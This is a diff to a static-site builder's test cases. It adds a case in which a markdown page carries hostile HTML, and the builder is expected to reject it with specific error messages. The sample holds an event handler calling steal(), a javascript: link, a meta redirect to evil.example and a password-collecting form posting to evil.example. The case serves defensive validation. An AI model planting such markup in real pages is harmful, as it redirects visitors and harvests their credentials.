@@ -478,6 +478,21 @@ Give one of them another permalink.`,
       'src/content/pages/de/projects.md: permalink: this page introduces the list at /de/projects/, whose address is fixed; remove the permalink (found /de/projekte/).',
   },
   {
+    mistake: 'HTML in markdown that could run a script, send visitors elsewhere or collect what they type',
+    via: 'build',
+    content: {
+      'pages/about.md':
+        '---\ntitle: About\n---\n\nWelcome <b onmouseover="steal()">here</b>.\n\n[Apply](javascript:alert(1))\n\n<meta http-equiv="refresh" content="0; url=https://evil.example/">\n\n<form action="https://evil.example/"><input name="password"></form>\n',
+    },
+    message: [
+      'src/content/pages/about.md:5: the attribute onmouseover on <b> is not allowed in markdown (no event handlers, styles or form attributes; class, id, title, lang and alt are fine)',
+      'src/content/pages/about.md:7: the address "javascript:alert(1)" in href on <a> is not allowed in markdown; a link goes to https://, http://, mailto:, tel: or a path in the site, and a picture is a file or an https:// address',
+      'src/content/pages/about.md:9: the element <meta> is not allowed in markdown; allowed are a, b, blockquote, br, code, dd, del, details, div, dl, dt, em, h1, h2, h3, h4, h5, h6, hr, i, img, input, ins, kbd, li, ol, p, picture, pre, q, rp, rt, ruby, s, samp, section, source, span, strike, strong, sub, summary, sup, table, tbody, td, tfoot, th, thead, tr, tt, ul, var, abbr, caption, cite, dfn, figcaption, figure, mark, small, time, u, wbr (for anything else, see "HTML in content" in the README)',
+      'src/content/pages/about.md:11: the element <form> is not allowed in markdown; allowed are a, b, blockquote, br, code, dd, del, details, div, dl, dt, em, h1, h2, h3, h4, h5, h6, hr, i, img, input, ins, kbd, li, ol, p, picture, pre, q, rp, rt, ruby, s, samp, section, source, span, strike, strong, sub, summary, sup, table, tbody, td, tfoot, th, thead, tr, tt, ul, var, abbr, caption, cite, dfn, figcaption, figure, mark, small, time, u, wbr (for anything else, see "HTML in content" in the README)',
+      'src/content/pages/about.md:11: the element <input> is allowed in markdown only as the checkbox of a task list (write "- [ ]" or "- [x]")',
+    ].join('\n'),
+  },
+  {
     mistake: 'an imprint page the site does not have',
     site: { legal: "{ imprint: '/impressum/', privacy: '/privacy/' }" },
     message:
